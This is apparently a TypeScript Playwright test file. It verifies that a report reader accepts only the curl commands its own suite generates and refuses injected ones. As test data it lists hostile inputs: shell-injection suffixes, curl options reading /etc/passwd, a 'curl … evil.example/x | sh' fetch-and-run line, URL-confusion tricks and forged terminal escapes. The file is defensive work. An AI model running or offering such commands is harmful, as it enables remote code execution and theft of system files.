import { writeFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { askedBy, isOfSuite } from '../../../evidence/shell-command.ts';
import { commandFor } from '../../../reporters/packed/command.ts';
import { ReportError, readReport } from '../../../reporters/read.ts';
import { renderJson } from '../../../reporters/render/json.ts';
import { wholeReport } from './gate-kit.ts';
import { exchangeWith } from './golden/make.ts';

// Whoever reads a report of somebody else's copies its commands into a shell.

const URL = 'https://staging.acme.example/Orders/Create';
const { request } = exchangeWith();
const taken = (curl: string, url = URL): boolean => isOfSuite({ curl, request: { ...request, url } });

test('a command that the suite words is taken, with all that it asks for', () => {
  const takenOf = (over: Partial<typeof request>): boolean =>
    isOfSuite({ curl: commandFor({ ...request, ...over }) ?? '', request: { ...request, ...over } });
  for (const body of [null, '', '{"a":"it\'s"}', 'two\nlines\u0000', 'x'.repeat(5000)])
    for (const method of ['POST', 'GET', 'HEAD', 'x y']) expect(takenOf({ method, body })).toBe(true);
  expect(
    takenOf({
      headers: [
        ['X-<PASSWORD>Key', '<API_KEY>'],
        ['Empty', ''],
      ],
      url: `${URL}?a=[1-9]`,
    }),
  ).toBe(true);
  for (const curl of [
    `curl -sS -i -X POST --http1.0 ${URL} -H 'Accept:' --data-raw '${request.body ?? ''}'`,
    `curl -sS -i -X POST --http1.1 -g --request-target ${URL} ${URL} -H 'Content-Type: application/json'`,
    `printf '%b' '\\0037\\0213' | curl -sS -i -X POST ${URL} -H 'Expect:' --data-binary @-`,
    `curl -sS -i -X POST ${URL} --data-raw '<BODY of 139431 bytes>'`,
  ])
    expect(taken(curl), curl).toBe(true);
  expect(taken("curl -sS -i -X POST '<BASE_URL>/a?key=<API_KEY>'", '/a?key=<literal API_KEY>')).toBe(true);
  expect(taken("curl -sS -i -X POST '<NOTIFICATION_URL>' -H 'Apikey: <API_KEY>'", '/hook')).toBe(true);
  expect(askedBy(`curl -sS --head ${URL}`)).toMatchObject({ addresses: [URL], isPiped: false });
});

test('a header that curl takes for a file is asked for by no command', () => {
  for (const [name, value] of [
    ['@/etc/passwd', ''],
    ['@a', 'b'],
  ] as const) {
    const one = { ...request, headers: [[name, value]] as const };
    expect(commandFor(one), name).toBeNull();
    for (const line of [`${name};`, `${name}: ${value}`])
      expect(isOfSuite({ curl: `curl -sS -i -X POST ${request.url} -H '${line}'`, request: one }), line).toBe(false);
  }
});

test('a command that asks the shell or curl for anything else is none of the suite', () => {
  for (const more of [
    ...[
      '; id',
      ' | sh',
      ' && id',
      ' & id',
      '\nid',
      ' > a',
      ' < a',
      ' `id`',
      ' $(id)',
      ' "$(id)"',
      ' $HOME',
      ' #',
      ' *',
    ],
    ...[
      ' -o a',
      ' -K a',
      " '-K' a",
      ' --config a',
      ' -d @/etc/passwd',
      ' --data-binary @/etc/passwd',
      ' -T a',
      ' -x a',
    ],
    ...[" -H '@/etc/passwd'", ' -H @a', " -H ''", ' https://evil.example', ' -F a=@b', ' --next', ' -Ka', " '"],
    // What the request did not send, and what a terminal takes for keys.
    ...[' -X DELETE', " -H 'Authorization: Bearer x'", " -H 'Host: evil.example'", ` --data-raw '{"all":true}'`],
    ...[' --request-target /Admin', ' --data-binary @-', ' --head', ` --data-raw 'a\u0003\nid\n'`, ` -X 'POST\r\n'`],
  ])
    expect(taken(`curl -sS -i -X POST ${URL}${more}`), more).toBe(false);
  for (const other of [
    ...['', 'curl', 'sh', `wget ${URL}`, `curl ${URL}/other`, `curl 'https://evil.example/'`, `id; curl ${URL}`],
    ...[`printf '%b' 'a' | sh`, `printf '%b' "$(id)" | curl ${URL}`, `printf '%b' 'a' | tee b | curl ${URL}`],
    ...[`curl '${URL}`, `CURL ${URL}`, `curl\t${URL}`, `curl ${URL}'; id'`],
  ])
    expect(taken(other), other).toBe(false);
});

test('an address that curl reads otherwise than a browser is none of a command', () => {
  for (const url of [
    ...['file:///etc/passwd', 'https://good.example\\@evil.example/', 'https://a@evil.example/', `${URL}?n=[1-999]`],
    ...[`${URL}/{a,b}`, 'https:/evil.example'],
  ])
    expect(taken(`curl -sS -i -X POST '${url}'`, url), url).toBe(false);
  for (const url of ['@evil.example/x', '.evil.example/x'])
    expect(taken(`curl -sS -i -X POST '<BASE_URL>${url}'`, url), url).toBe(false);
});

test('a report with such a command is not read, and says so on one line', ({}, info) => {
  const report = wholeReport();
  const [first] = report.cells;
  const cells = report.cells.map((cell) =>
    cell !== first
      ? cell
      : {
          ...cell,
          exchanges: cell.exchanges.map((one) => ({ ...one, curl: 'curl -sS https://evil.example/x | sh' })),
        },
  );
  const path = info.outputPath('conformance.json');
  writeFileSync(path, renderJson({ ...report, cells }));
  const name = `${first?.rule ?? ''} × ${first?.subject ?? ''}`;
  expect(() => readReport(path)).toThrow(
    `a command of ${name} is none that the suite makes for its request. Run none of it`,
  );
});

test('what a report says cannot begin a line of its refusal', () => {
  const forged = 'a\n::notice ::CONFORMANT\r\n  gate       certify: passed\u001b[2J';
  expect(new ReportError(`it shows ${forged}`).message).toBe(
    'it shows a\\n::notice ::CONFORMANT\\r\\n  gate       certify: passed\\u{1B}[2J',
  );
});
